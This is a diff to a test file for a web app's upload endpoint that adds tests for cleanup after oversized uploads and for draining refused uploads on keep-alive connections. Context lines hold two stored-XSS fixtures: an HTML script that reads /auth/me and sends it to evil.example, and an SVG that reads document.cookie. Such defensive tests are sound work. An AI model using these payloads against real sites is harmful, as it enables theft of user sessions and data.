@@ -1,4 +1,4 @@
-import { request as httpRequest } from "node:http";
+import { Agent, request as httpRequest } from "node:http";
 import { existsSync, readdirSync, statSync } from "node:fs";
 import { join } from "node:path";
 import { afterEach, describe, expect, it } from "vitest";
@@ -6,6 +6,7 @@ import { dialects } from "./helpers/databases.js";
 import { connectSocket, EventLog, request, type ClientSocket } from "./helpers/socket-client.js";
 import { startTestServer, testApp, type StartOptions, type TestClient, type TestServer } from "./helpers/test-server.js";
 import { PNG } from "./helpers/sample-files.js";
+import { multipart, send } from "./helpers/keep-alive-request.js";
 
 const HTML_WITH_SCRIPT = `<!doctype html><html><body><script>fetch('/auth/me').then(r => r.text()).then(t => fetch('https://evil.example/?' + t))</script></body></html>`;
 const SVG_WITH_SCRIPT = `<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg"><script>alert(document.cookie)</script></svg>`;
@@ -123,6 +124,45 @@ describe.each(dialects)("files on $name", (dialect) => {
     expect(storedObjects(t.dataDir)).toEqual([]);
     // The limit is inclusive: exactly the maximum is accepted.
     expect((await upload(alice, Buffer.alloc(100 * 1024, 7), "exact.bin")).status).toBe(201);
+  });
+
+  it("has removed the temporary file when it answers 413, even when the first bytes are already over the limit", async () => {
+    // The sniffed head is handed to storage as one chunk: over a small limit, the upload fails
+    // before anything is written, while the temporary file was still being opened.
+    await start({ server: { files: { maxUploadBytes: 1024 } } });
+    const alice = await loggedIn();
+    for (let i = 0; i < 20; i++) {
+      expect((await upload(alice, Buffer.alloc(64 * 1024, 7), `big-${i}.bin`)).status).toBe(413);
+      expect(storedObjects(t.dataDir)).toEqual([]);
+    }
+    expect(await fileRows()).toEqual([]);
+  });
+
+  it("reads the rest of a refused upload, so the next request on the keep-alive connection answers", async () => {
+    await start({ server: { files: { accept: ["image/*"] } } });
+    const alice = await loggedIn();
+    const agent = new Agent({ keepAlive: true, maxSockets: 1 });
+    try {
+      const headers = {
+        cookie: `${alice.cookieName}=${alice.sessionCookie}`,
+        origin: t.origin,
+        "sec-fetch-site": "same-origin",
+        "x-csrf-token": alice.csrfToken!,
+      };
+      // Refused on its sniffed type after the first 64 KiB; 1 MiB more is still on the way.
+      const { body, contentType } = multipart(Buffer.alloc(1024 * 1024, 7), "data.bin");
+      const refused = await send(agent, `${t.origin}/api/files`, {
+        method: "POST",
+        headers: { ...headers, "content-type": contentType, "content-length": String(body.length) },
+        body,
+      });
+      expect(refused.status).toBe(415);
+      const me = await send(agent, `${t.origin}/auth/me`, { method: "GET", headers });
+      expect(me.status).toBe(200);
+      expect(me.reusedSocket).toBe(true);
+    } finally {
+      agent.destroy();
+    }
   });
 
   it("leaves nothing behind when the client disconnects mid-upload", async () => {
